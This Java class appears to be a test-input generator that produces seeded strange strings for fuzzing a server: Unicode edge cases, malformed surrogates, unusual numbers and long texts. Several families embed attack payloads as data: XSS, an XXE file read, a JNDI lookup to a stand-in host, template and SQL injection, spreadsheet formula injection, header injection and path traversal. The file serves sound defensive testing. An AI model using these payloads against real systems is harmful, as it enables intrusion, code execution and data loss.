package org.tocsin.server.odd;

import java.util.List;
import java.util.Random;
import java.util.function.Function;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/// Strange texts from a seed: each of a family that has broken software before.
final class OddTexts {
    private static final List<Function<Random, String>> FAMILIES =
            List.of(
                    OddTexts::bidirectional,
                    OddTexts::invisible,
                    OddTexts::stackedMarks,
                    OddTexts::lookalikes,
                    OddTexts::controls,
                    OddTexts::halfSurrogates,
                    OddTexts::noCharacters,
                    OddTexts::anyPlane,
                    OddTexts::markup,
                    OddTexts::formulas,
                    OddTexts::frames,
                    OddTexts::decomposed,
                    OddTexts::numbers,
                    OddTexts::paths,
                    OddTexts::longOnes);

    private OddTexts() {}

    /// Returns `count` texts, the families in turn; the same for the same seed.
    static Stream<String> from(long seed, int count) {
        var chance = new Random(seed);
        return IntStream.range(0, count)
                .mapToObj(index -> FAMILIES.get(index % FAMILIES.size()).apply(chance));
    }

    private static String bidirectional(Random chance) {
        return "gate "
                + some(chance, 6, "\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069")
                + "4";
    }

    private static String invisible(Random chance) {
        return "quay"
                + some(chance, 5, "\u200B\u200C\u200D\u2060\uFEFF\u00AD\u180E\u3164\u115F")
                + "four";
    }

    private static String stackedMarks(Random chance) {
        return "a" + some(chance, 40, "\u0300\u0301\u0308\u0323\u0489\u20DD\u0E49\u064B");
    }

    private static String lookalikes(Random chance) {
        return some(
                chance, 8, "\u0430\u0435\u043E\u0440\u0441\u0445\u03BF\u0456\uFF41\u2170\u1D41A");
    }

    private static String controls(Random chance) {
        return "line" + (char) chance.nextInt(0x20) + "end" + (char) (0x7F + chance.nextInt(0x21));
    }

    private static String halfSurrogates(Random chance) {
        return "x" + (char) (0xD800 + chance.nextInt(0x800)) + "y";
    }

    private static String noCharacters(Random chance) {
        var plane = chance.nextInt(17) << 16;
        return "x" + Character.toString(plane + 0xFFFE + chance.nextInt(2)) + "y";
    }

    private static String anyPlane(Random chance) {
        var text = new StringBuilder();
        for (int length = 1 + chance.nextInt(20); length > 0; length--) {
            text.appendCodePoint(chance.nextInt(Character.MAX_CODE_POINT + 1));
        }
        return text.toString();
    }

    private static String markup(Random chance) {
        return pick(
                chance,
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hostname\">]><a>&b;</a>",
                "]]>&lt;b&gt;",
                "${jndi:ldap://h.example/a}",
                "{{7*7}}",
                "%{(#a=1)}",
                "javascript:alert(1)",
                "'; DROP TABLE advisories;--");
    }

    private static String formulas(Random chance) {
        return pick(chance, "=1+1", "@SUM(A1)", "+1", "-1+1|cmd", "=HYPERLINK(\"x\")", "\t=1")
                + chance.nextInt(10);
    }

    private static String frames(Random chance) {
        return pick(
                        chance,
                        "a\n\nevent: advisory\ndata: {}",
                        "a\rid: 1\rdata: b",
                        "a\r\nSet-Cookie: a=b",
                        "a\u2028data: b",
                        "a\u0085b",
                        "a\\u000ab")
                + chance.nextInt(10);
    }

    private static String decomposed(Random chance) {
        return pick(
                        chance,
                        "A\u030A",
                        "e\u0301",
                        "\u1100\u1161\u11A8",
                        "\u212B",
                        "\uFB01",
                        "q\u0307\u0323")
                + " "
                + pick(chance, "\u0958", "\u2126", "o\u0302\u0323", "\u0344")
                + chance.nextInt(10);
    }

    private static String numbers(Random chance) {
        return pick(
                        chance,
                        "NaN",
                        "Infinity",
                        "-0",
                        "1e400",
                        "0x1F",
                        "\u0661\u0662",
                        "\uFF11",
                        "1_0",
                        "\u2460")
                + chance.nextInt(10);
    }

    private static String paths(Random chance) {
        return pick(
                        chance,
                        "../../etc/hostname",
                        "..%2f..%2f",
                        "%00",
                        ";a=b",
                        "//",
                        "a/b",
                        "%c0%af",
                        "%u002e",
                        "con",
                        "?a=b#c",
                        "\\..\\")
                + chance.nextInt(10);
    }

    private static String longOnes(Random chance) {
        var unit = pick(chance, "a", "\u0644", "\uD83D\uDEA8", " ", "\u0301", "a\u0301");
        return unit.repeat(50 + chance.nextInt(3_000));
    }

    private static String some(Random chance, int count, String characters) {
        var points = characters.codePoints().toArray();
        var text = new StringBuilder();
        for (int length = 1 + chance.nextInt(count); length > 0; length--) {
            text.appendCodePoint(points[chance.nextInt(points.length)]);
        }
        return text.toString();
    }

    private static String pick(Random chance, String... texts) {
        return texts[chance.nextInt(texts.length)];
    }
}
